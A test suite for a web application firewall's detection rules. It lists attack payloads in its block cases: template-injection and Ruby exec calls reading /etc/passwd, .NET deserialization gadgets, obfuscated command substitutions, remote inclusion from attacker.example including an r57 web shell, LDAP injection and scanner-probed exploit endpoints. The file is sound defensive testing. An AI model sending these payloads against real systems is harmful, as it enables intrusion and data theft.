import { describe, it } from 'vitest';
import type { EdgeRequest } from '../../../lambdas/core/edge-request.ts';
import { BROWSER_HEADERS, expectBlocked, expectDetected, expectNotFlaggedBy, form, get, json } from './helpers.ts';

/*
 * Code, command and path attack styles from public sources the development corpus does not carry:
 * HackTricks' Twig and ERB template RCE, Ruby process calls, ysoserial.net gadgets, commix here-string
 * evasion, SMB/WebDAV remote inclusion, classic PHP web shells, LDAP wildcard break-outs and the
 * endpoints that mass exploit scanners probe.
 */

const q = (value: string): EdgeRequest => get(`/search?q=${encodeURIComponent(value)}`);
const cookie = (value: string): EdgeRequest =>
  get('/search', { ...BROWSER_HEADERS, cookie: `session=abc; pref=${encodeURIComponent(value)}` });

describe('WAF template injection: Twig callbacks and ERB backticks (SSTI-130)', () => {
  it.each([
    ["Twig's filter given system", q("{{['id']|filter('system')}}")],
    ["Twig's map given passthru in JSON", json({ name: '{{["cat /etc/passwd"]|map("passthru")|join}}' })],
    ['an ERB backtick command', form(`bio=${encodeURIComponent('<%= `ls /` %>')}`)],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'SSTI-130');
  });

  it.each([
    ['a Twig filter with an arrow function', q('{{ users|filter(u => u.active)|map(u => u.name)|join(", ") }}')],
    ['an ERB tag printing a variable', q('<%= user.name %>')],
    ['Markdown inline code in prose', q('use the `filter` function, e.g. <% if x %>')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'SSTI-130');
  });
});

describe('WAF code injection: Ruby process execution (RUBY-100)', () => {
  it.each([
    ['Kernel.exec with a string', json({ template: 'Kernel.exec("id")' })],
    ['IO.popen in a cookie', cookie("IO.popen('id').read")],
    ['Open3.capture2e', q("Open3.capture2e('cat /etc/passwd')")],
    ['a %x() literal', q('%x(id)')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'RUBY-100');
  });

  it.each([
    ['prose about the kernel', q('the kernel exec path was rewritten')],
    ['a percent sign before x', q('50%x more')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'RUBY-100');
  });
});

describe('WAF deserialization: ysoserial.net gadgets (DOTNET-100)', () => {
  it.each([
    [
      'a Json.NET ObjectDataProvider',
      form(
        `data=${encodeURIComponent('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}')}`,
      ),
    ],
    ['a WindowsIdentity $type', json({ p: '{"$type":"System.Security.Principal.WindowsIdentity, mscorlib"}' })],
    [
      'a TextFormattingRunProperties $type',
      q(
        '{"$type":"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor","ForegroundBrush":"<ResourceDictionary/>"}',
      ),
    ],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'DOTNET-100');
  });

  it('allows WPF documentation that names ObjectDataProvider', () => {
    expectNotFlaggedBy(q('Bind the list to an ObjectDataProvider resource in XAML.'), 'DOTNET-100');
  });
});

describe('WAF command injection: here-string inside a command substitution (RCE-211)', () => {
  it.each([
    ['a reversed command', q("$(rev<<<'di')")],
    ['base64 decoding in backticks', q('`base64 -d<<<aWQK`')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectDetected(req, 'RCE-211');
  });

  it('allows a C++ stream shift', () => {
    expectNotFlaggedBy(q('std::cout <<< value'), 'RCE-211');
  });
});

describe('WAF remote inclusion: UNC shares and named web shells (RFI-160, RFI-110)', () => {
  it.each([
    ['a UNC path to an IP', form(`file=${encodeURIComponent('\\\\203.0.113.5\\share\\x.php')}`)],
    ['a WebDAV UNC path', q('\\\\attacker.example@SSL\\DavWWWRoot\\x.php')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'RFI-160');
  });

  it('allows a UNC path to a named intranet server', () => {
    expectNotFlaggedBy(q('\\\\fileserver\\docs\\report.pdf'), 'RFI-160');
  });

  it('blocks an r57 shell fetched over FTP at sensitivity 70', () => {
    expectBlocked(json({ name: 'ftp://attacker.example/r57.txt' }), 'RFI-110');
  });

  it('allows a plain link to a text file', () => {
    expectNotFlaggedBy(q('https://example.com/notes/readme.txt'), 'RFI-110');
  });
});

describe('WAF LDAP injection: wildcard closed before a doubled open (LDAP-100)', () => {
  it('blocks admin*)((|userPassword=*) at sensitivity 70', () => {
    expectBlocked(json({ user: 'admin*)((|userPassword=*)' }), 'LDAP-100');
  });

  it('allows a C call through a function pointer', () => {
    expectNotFlaggedBy(q('(*handler)((|flags))'), 'LDAP-100');
  });
});

describe('WAF scanners: endpoints of mass-scanned exploits (SCAN-210)', () => {
  it.each([
    ["PHPUnit's eval-stdin.php", get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
    ['Laravel Ignition', get('/_ignition/execute-solution')],
    ['D-Link HNAP', get('/HNAP1/')],
    ['a GPON router form', get('/GponForm/diag_Form?images/')],
    ['Spring Boot gateway routes', get('/actuator/gateway/routes')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'SCAN-210');
  });

  it.each([
    ['a route that merely contains the word ignition', get('/cars/ignition/parts')],
    ['a Spring Boot health check', get('/actuator/health')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'SCAN-210');
  });
});
